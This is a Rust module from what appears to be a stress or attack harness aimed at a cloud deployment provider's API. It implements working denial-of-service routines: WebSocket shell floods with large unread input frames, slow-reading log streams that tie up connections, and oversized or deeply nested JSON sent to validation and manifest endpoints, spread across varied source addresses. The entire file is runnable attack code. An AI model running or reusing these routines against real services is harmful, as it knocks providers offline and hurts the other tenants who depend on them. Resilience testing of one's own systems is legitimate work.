//! Attacks of a tenant who has leases.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::connection::{Client, Stream, ask, request};
use super::{Acts, Target, address, all};

/// How long to wait where nothing was to be had.
const PAUSE: Duration = Duration::from_millis(200);
/// Streams that are tried for each lease: more than it may have.
const STREAMS: u8 = 40;
/// How long a stream is held before another is made in its place.
const ROUND: Duration = Duration::from_secs(20);

/// Opens a WebSocket.
async fn websocket(target: &Target, number: u8, path: &str) -> Result<Stream> {
    let mut stream = Client::new()?.connect(target.rest, address(number % 4 + 120)).await?;
    let handshake = format!(
        "GET {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\nconnection: upgrade\r\n\
         upgrade: websocket\r\nsec-websocket-version: 13\r\n\
         sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
        target.token
    );
    stream.write_all(handshake.as_bytes()).await?;
    stream.flush().await?;
    // A byte at a time: what follows the head belongs to the stream.
    let (mut head, mut byte) = (Vec::new(), [0]);
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte).await?;
        head.extend(byte);
    }
    ensure!(head.starts_with(b"HTTP/1.1 101"), "{}", String::from_utf8_lossy(&head));
    Ok(stream)
}

/// A masked binary frame of input for a command.
fn input(bytes: usize) -> Result<Vec<u8>> {
    let length = u64::try_from(bytes + 1).context("a length")?;
    let mut frame = vec![0x82, 0x80 | 127];
    frame.extend(length.to_be_bytes());
    frame.extend([0; 4]);
    frame.push(104);
    frame.resize(frame.len() + bytes, b'x');
    Ok(frame)
}

pub(super) async fn shells(target: Arc<Target>, acts: Acts) {
    let Some(lease) = target.leases.first().copied() else { return };
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        async move {
            let path =
                format!("/lease/{lease}/1/1/shell?cmd0=cat&tty=0&service=web&stdin=1&podIndex=0");
            loop {
                if let Ok(mut stream) = websocket(&target, number, &path).await
                    && let Ok(frame) = input(100 << 10)
                {
                    // What comes back is never read, so this ends when nothing more is taken.
                    let flood = async {
                        while stream.write_all(&frame).await.is_ok() {
                            acts.add();
                        }
                    };
                    let _held = tokio::time::timeout(ROUND, flood).await;
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
    };
    all((0..STREAMS).map(one)).await;
}

pub(super) async fn logs(target: Arc<Target>, acts: Acts) {
    let Some(lease) = target.leases.get(1).copied() else { return };
    let one = |number: u8| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        async move {
            let path = format!("/lease/{lease}/1/1/logs?follow=true&tail=1000");
            loop {
                if let Ok(mut stream) = websocket(&target, number, &path).await {
                    let slowly = async {
                        while stream.read(&mut [0]).await.is_ok_and(|count| count > 0) {
                            acts.add();
                            tokio::time::sleep(PAUSE).await;
                        }
                    };
                    let _held = tokio::time::timeout(ROUND, slowly).await;
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
    };
    all((0..STREAMS).map(one)).await;
}

/// Documents as large as are taken, that take as much work as they can: for screening by strangers,
/// as a manifest by the tenant.
pub(super) async fn json(target: Arc<Target>, acts: Acts) {
    let entries = |count: usize| {
        let entry = |number| format!("\"NAME_{number}=value\"");
        (0..count).map(entry).collect::<Vec<_>>().join(",")
    };
    let nested = [vec![b'['; 500_000], vec![b']'; 500_000]].concat();
    let group = format!("{{\"name\":\"x\",\"resources\":[{}]}}", entries(45_000));
    let service = format!("{{\"name\":\"web\",\"env\":[{}]}}", entries(170_000));
    let manifest = format!("[{{\"name\":\"x\",\"services\":[{service}]}}]");
    // Nothing but values, and as many bytes and values as are taken.
    let dense = format!("[{}0]", "0,".repeat(2_000_000));
    let long = vec![format!("\"{}\"", "x".repeat(130)); 30_000].join(",");
    let full = format!("[{{\"name\":\"x\",\"services\":[{{\"name\":\"web\",\"env\":[{long}]}}]}}]");
    let dseq = target.leases.first().copied().unwrap_or(1);
    let path = format!("/deployment/{dseq}/manifest");
    let requests = [
        request("POST", "/validate", None, &nested),
        request("POST", "/validate", None, group.as_bytes()),
        request("PUT", &path, Some(&target.token), manifest.as_bytes()),
        request("PUT", &path, Some(&target.token), dense.as_bytes()),
        request("PUT", &path, Some(&target.token), full.as_bytes()),
    ];
    let one = |number: usize| {
        let (target, acts) = (Arc::clone(&target), acts.clone());
        let request = requests.get(number % requests.len()).cloned().unwrap_or_default();
        let from = address(u8::try_from(number).unwrap_or_default() + 130);
        async move {
            loop {
                let sending = async {
                    let mut stream = Client::new()?.connect(target.rest, from).await?;
                    loop {
                        ask(&mut stream, &request).await?;
                        acts.add();
                    }
                };
                let _failed: Result<()> = sending.await;
                tokio::time::sleep(PAUSE).await;
            }
        }
    };
    all((0..10).map(one)).await;
}
